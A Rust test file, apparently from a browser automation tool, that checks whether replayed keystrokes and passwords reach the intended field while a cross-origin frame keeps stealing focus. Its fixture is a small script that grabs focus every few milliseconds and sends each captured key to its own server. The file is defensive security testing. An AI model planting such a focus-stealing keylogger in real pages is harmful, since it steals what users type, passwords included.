//! Text and keys reach the element that was checked, also where another element takes the focus meanwhile: judged by what the
//! server of the thief has received.

use std::sync::atomic::Ordering;
use std::time::Duration;

use super::rig::{Rig, serve};

/// Takes the focus every few milliseconds and reports everything that it gets to its server.
const THIEF: &str = r#"<input id=t><script>
    setInterval(() => t.focus(), 3);
    for (const type of ['keydown', 'keyup', 'beforeinput', 'input'])
      addEventListener(type, event => fetch('/second?' + (event.key ?? event.data)), true);
</script>"#;

/// A page with a frame of an origin that is not allowed, at `thief`.
async fn beside_a_thief(body: &str, thief: &str) -> Rig {
    let mut rig = Rig::new(&format!(r#"{body}<iframe id=f src="{thief}/"></iframe>"#)).await;
    rig.run_in_page("window.here = performance.now()").await;
    rig
}

#[tokio::test]
async fn a_key_goes_to_nothing_that_takes_the_focus_in_between() {
    let (thief, reached) = serve(THIEF).await;
    let mut rig = beside_a_thief("<input id=i>", &thief).await;
    let mut ends = std::collections::BTreeMap::<&str, u32>::new();
    for _ in 0..60 {
        rig.run_in_page("i.focus()").await;
        let played = rig.play(r#"{"type":"keyDown","key":"x"},{"type":"keyUp","key":"x"}"#).await;
        for line in played.lines() {
            let end = ["ok", "FocusStolen", "Refused"].into_iter().find(|end| line.contains(end));
            *ends.entry(end.unwrap_or_else(|| panic!("{line}"))).or_default() += 1;
        }
    }
    println!("{ends:?}");
    rig.page.close().await;
    assert_eq!(reached.load(Ordering::SeqCst), 1, "requests of the thief beyond its own document");
}

#[tokio::test]
async fn a_password_goes_to_nothing_that_takes_the_focus_in_between() {
    let (thief, reached) = serve(THIEF).await;
    let body = r#"<form action="/echo" method=post target=out><input id=plain type=password name=p><input id=listening type=password name=q onkeydown="window.k=1"></form><iframe name=out></iframe>"#;
    let mut rig = beside_a_thief(body, &thief).await;
    let secret = "correct horse battery staple";
    for _ in 0..10 {
        let step = |id: &str| format!(r##"{{"type":"change","selectors":["#{id}"],"value":"{secret}"}}"##);
        assert_eq!(rig.play(&step("plain")).await, "1 change: ok [gate]\n");
        let listening = rig.play(&step("listening")).await;
        assert!(
            listening.contains(": ok [gate]")
                || listening.contains("FocusStolen: a frame of http://127.0.0.1:"),
            "{listening}"
        );
    }
    rig.run_in_page("document.forms[0].submit()").await;
    let seen =
        rig.play(r##"{"type":"waitForElement","selectors":["#echo"],"frame":[0],"timeout":5000}"##).await;
    assert_eq!(seen, "1 waitForElement: ok\n");
    let echo = rig.flow(
        r##"{"type":"customStep","name":"regatta.capture","parameters":{"selectors":["#echo"],"from":"text","into":"identity.x"},"frame":[0]}"##,
    );
    let posted = rig
        .page
        .perform("f.json", &echo.steps[0], Duration::from_secs(5), &mut super::rig::Counter::default())
        .await
        .unwrap()
        .unwrap();
    assert!(posted.starts_with("p=correct+horse+battery+staple&"), "{posted}");
    rig.page.close().await;
    assert_eq!(reached.load(Ordering::SeqCst), 1, "requests of the thief beyond its own document");
}
